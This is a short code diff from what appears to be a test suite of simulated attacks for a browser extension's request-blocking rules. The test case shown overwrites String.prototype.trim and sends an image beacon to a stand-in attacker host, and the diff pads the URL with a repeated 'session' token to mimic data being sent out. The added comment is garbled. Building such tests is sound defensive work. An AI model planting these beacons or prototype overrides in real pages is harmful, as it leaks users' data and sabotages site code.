@@ -45,7 +45,9 @@ const TRICKS: Trick[] = [
     run: ({ attacker }) => {
       String.prototype.trim = () => '';
       const img = new Image();
-      img.src = `${attacker}/trim/t482913.gif`;
+      // Carries more than a dependency load to a site the task does not name may (issue 37: a load with no
+      // session data is a page's dependency and loads; src/background/dnr.ts, MAX_DEPENDENCY_PATH).
+      img.src = `${attacker}/trim/${'t482913-session-'.repeat(7)}.gif`;
       document.body.append(img);
     },
     direct: img,
